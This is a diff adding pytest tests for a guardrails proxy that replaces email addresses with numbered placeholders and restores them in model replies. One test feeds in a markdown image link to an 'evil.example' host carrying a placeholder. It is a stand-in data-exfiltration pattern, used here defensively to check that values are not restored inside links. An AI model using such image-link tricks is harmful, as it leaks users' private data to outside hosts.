@@ -10,6 +10,7 @@ import threading
 import openai
 import pytest
 
+from guardrails import Guard
 from guardrails.types import CLEAN
 
 TOOL = {
@@ -556,3 +557,100 @@ def test_a_reply_is_judged_beside_the_system_prompt(serve, guard_of, fake, kit, 
     assert answer.status == 200
     assert b"launch" not in answer.raw
     assert b"content_filter" in answer.raw
+
+
+VAULT = """
+detectors:
+  pii: {use: pii, entities: [email]}
+  bomb: {use: terms, terms: [zqxbomb], category: custom.bomb}
+rules:
+  - {id: keep, on: [input, output, tool_call, tool_result], when: pii > 0, then: redact, with: vault}
+  - {id: bomb, on: output, when: custom.bomb > 0, then: block}
+"""
+SEND = {"id": "c1", "type": "function", "function": {"name": "send", "arguments": '{"to": "[EMAIL_1]"}'}}
+
+
+@pytest.fixture(scope="module")
+def vault_guard(guard_of) -> Guard:
+    """A guard that numbers addresses."""
+    return guard_of(VAULT)
+
+
+def contents(body) -> list[object]:
+    """Return the contents of the messages of a request."""
+    return [message["content"] for message in body["messages"]]
+
+
+@pytest.mark.parametrize("streamed", [False, True])
+def test_openais_client_gets_values_that_the_model_never_saw(serve, fake, kit, vault_guard, streamed) -> None:
+    """Whole or streamed in pieces that cut the placeholder; not in a link; what is new in the reply stays hidden."""
+    text = "I wrote to [EMAIL_1] and new@x.org: ![x](https://evil.example/[EMAIL_1]) [EMAIL_2]"
+    if streamed:
+        fake.streams(*kit.pieces(text))
+    else:
+        fake.answers(kit.completion(text))
+    with openai.OpenAI(base_url=f"{serve(vault_guard)}/v1", api_key="k", max_retries=0) as client:
+        answer = client.chat.completions.create(
+            model="m", messages=[{"role": "user", "content": "mail jo@example.com"}], stream=streamed
+        )
+        if streamed:
+            said = "".join(chunk.choices[0].delta.content or "" for chunk in answer if chunk.choices)
+        else:
+            said = answer.choices[0].message.content
+    assert contents(fake.asked[0].json) == ["mail [EMAIL_1]"]
+    assert said == "I wrote to jo@example.com and [EMAIL_3]: ![x](https://evil.example/[EMAIL_1]) [EMAIL_2]"
+
+
+@pytest.mark.parametrize("streamed", [False, True])
+def test_a_calls_arguments_keep_their_placeholders(serve, fake, kit, vault_guard, streamed) -> None:
+    """Beside a text that has its values again; a choice that is refused has none."""
+    message = {"role": "assistant", "content": "To [EMAIL_1].", "tool_calls": [SEND]}
+    if streamed:
+        fake.streams(
+            kit.chunk({**message, "tool_calls": [{"index": 0, **SEND}]}), kit.chunk({}, "tool_calls")
+        )
+    else:
+        fake.answers(kit.completion(message, "[EMAIL_1] zqxbomb"))
+    answer = kit.chat(serve(vault_guard), kit.asking("I am jo@example.com", stream=streamed))
+    assert answer.raw.count(b"jo@example.com") == 1
+    assert b"To jo@example.com." in answer.raw
+    assert b'{\\"to\\": \\"[EMAIL_1]\\"}' in answer.raw
+    assert b"zqxbomb" not in answer.raw
+
+
+def test_a_conversation_that_is_sent_again_has_the_same_numbers(serve, fake, kit, vault_guard) -> None:
+    """The assistant's turn with the value in it becomes what the model said; its calls are as it wrote them."""
+    url = serve(vault_guard)
+    turns = [{"role": "user", "content": "I am jo@example.com"}]
+    fake.answers(kit.completion("Hello [EMAIL_1]."))
+    turns.append(kit.chat(url, {"model": "m", "messages": turns}).json["choices"][0]["message"])
+    turns.append({"role": "assistant", "content": "", "tool_calls": [SEND]})
+    turns.append({"role": "tool", "tool_call_id": "c1", "content": "sent to [EMAIL_1], cc al@example.com"})
+    turns.append({"role": "user", "content": "and to bo@example.com, not jo@example.com"})
+    fake.answers(kit.completion("[EMAIL_1], [EMAIL_2], [EMAIL_3]"))
+    answer = kit.chat(url, {"model": "m", "messages": turns})
+    assert contents(fake.asked[1].json) == [
+        "I am [EMAIL_1]",
+        "Hello [EMAIL_1].",
+        "",
+        "sent to [EMAIL-1], cc [EMAIL_2]",
+        "and to [EMAIL_3], not [EMAIL_1]",
+    ]
+    assert fake.asked[1].json["messages"][2]["tool_calls"] == [SEND]
+    said = answer.json["choices"][0]["message"]["content"]
+    assert said == "jo@example.com, [EMAIL_2], bo@example.com"
+
+
+def test_nothing_of_a_vault_is_in_the_verdict_that_is_shown(serve, kit, vault_guard) -> None:
+    """`/v1/check` answers with placeholders alone, and headers name rules alone."""
+    answer = kit.send(serve(vault_guard), "/v1/check", {"text": "I am jo@example.com"})
+    assert answer.json["content"] == "I am [EMAIL_1]"
+    assert b"jo@" not in answer.raw
+    assert "jo@" not in str(answer.headers)
+
+
+def test_what_needs_nothing_put_back_passes_unchanged(serve, fake, kit, vault_guard) -> None:
+    """Byte for byte, although the request had something to hide."""
+    said = json.dumps(kit.completion("Fine, [EMAIL_7]."), indent=3).encode()
+    fake.answers(said)
+    assert kit.chat(serve(vault_guard), kit.asking("I am jo@example.com")).raw == said
